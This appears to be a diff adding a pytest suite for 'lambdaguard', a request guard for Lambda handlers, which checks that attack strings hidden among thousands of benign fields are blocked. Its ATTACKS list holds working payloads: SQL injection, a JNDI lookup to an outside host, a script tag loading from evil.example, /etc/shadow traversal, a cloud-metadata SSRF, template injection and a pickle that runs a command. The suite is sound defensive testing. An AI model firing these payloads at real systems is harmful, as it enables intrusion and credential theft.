@@ -1,0 +1,105 @@
+"""Large events, through the guard: what is found in them, what passes, and that nobody is held up."""
+
+import base64
+import json
+import random
+from urllib.parse import quote_plus
+
+import pytest
+
+from lambdaguard import guard
+from lambdaguard.rules import patience
+
+WORDS = 'the order came back with a note of thanks (it\'s fine), and she said: "no, not today"; so we left & wrote'.split()
+ATTACKS = [
+    "1' UNION SELECT card FROM payments-- -",
+    "${jndi:ldap://203.0.113.66/a}",
+    "<script src=//evil.example/x.js></script>",
+    "../../../../etc/shadow",
+    "http://169.254.169.254/latest/meta-data/iam/",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "\u2019 or \u20181\u2019=\u20181",
+    b"cposix\nsystem\n(S'id'\ntR.".hex(),
+]
+
+
+def posted(kind, body, **more):
+    return {
+        "version": "2.0",
+        "routeKey": "$default",
+        "rawPath": "/",
+        "headers": {"content-type": kind},
+        "requestContext": {"http": {"method": "POST"}},
+        "body": body,
+        **more,
+    }
+
+
+def notes(count):
+    chance = random.Random(count)
+    return [" ".join(chance.choices(WORDS, k=12)) for _ in range(count)]
+
+
+def as_records(texts):
+    return posted(
+        "application/json", json.dumps([{"id": at, "name": "Ann O'Brien", "note": text} for at, text in enumerate(texts)])
+    )
+
+
+def as_form(texts):
+    return posted("application/x-www-form-urlencoded", "&".join(f"f{at}={quote_plus(text)}" for at, text in enumerate(texts)))
+
+
+def as_base64(texts):
+    event = as_records(texts)
+    return {**event, "body": base64.b64encode(event["body"].encode()).decode(), "isBase64Encoded": True}
+
+
+@guard
+def handler(event, context):
+    return {"statusCode": 200}
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+@pytest.mark.parametrize("shape", [as_records, as_form, as_base64])
+@pytest.mark.parametrize("at", [0, 1_500, 3_000])
+def test_one_field_among_many(shape, attack, at, capsys):
+    texts = notes(3_000)
+    assert handler(shape(texts), None)["statusCode"] == 200
+    texts.insert(at, attack)
+    assert handler(shape(texts), None)["statusCode"] == 403
+
+
+@pytest.mark.parametrize("attack", ATTACKS[:6], ids=range(6))
+@pytest.mark.parametrize("at", [0, 2_040, 32 * 1024 * 3 - 6, 150_000, 10**9])
+@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
+def test_a_line_of_a_long_text(attack, at, kind, capsys):
+    text = "\n".join(["We met on Monday, and it was fine."] * 9_000)
+    at = text.rfind("\n", 0, at) + 1 if at < len(text) else len(text)
+    body = f"{text[:at]}\n{attack}\n{text[at:]}"
+    body = json.dumps({"text": body}) if kind == "application/json" else body
+    refused = handler(posted(kind, body), None)["statusCode"] == 403
+    page = f"{text[max(at - 1_000, 0) : at]}\n{attack}\n{text[at : at + 1_000]}"
+    assert refused == (handler(posted("text/plain", page), None)["statusCode"] == 403)
+
+
+def test_a_page_is_judged_as_a_page(capsys):
+    """A window shows a piece of what is no attack as a whole."""
+    page = "<!DOCTYPE html>\n<html><head><title>Report</title></head><body><p>Figures of the year.</p>{}</body></html>\n"
+    script = "<script>for (const row of rows) {{ total += row.value; }}</script>"
+    small = page.format(f"<p>{'words and figures, ' * 100}</p>{script.format()}")
+    large = page.format(f"<p>{'words and figures, ' * 3_000}</p>")
+    assert handler(posted("text/plain", large), None)["statusCode"] == 200
+    assert (
+        handler(posted("text/plain", small + large), None)["statusCode"]
+        == handler(posted("text/plain", small), None)["statusCode"]
+    )
+
+
+@pytest.mark.parametrize(("on_error", "status"), [("open", 200), ("closed", 403)])
+def test_what_is_left_unread_is_told(on_error, status, monkeypatch, capsys):
+    monkeypatch.setattr(patience, "_SECONDS", 0.0)
+    guarded = guard(lambda event, context: {"statusCode": 200}, on_error=on_error)
+    event = as_records([f"a{number}'; b" for number in range(3_000)])
+    assert guarded(event, None)["statusCode"] == status
+    assert "LG-LIM-006" in capsys.readouterr().out
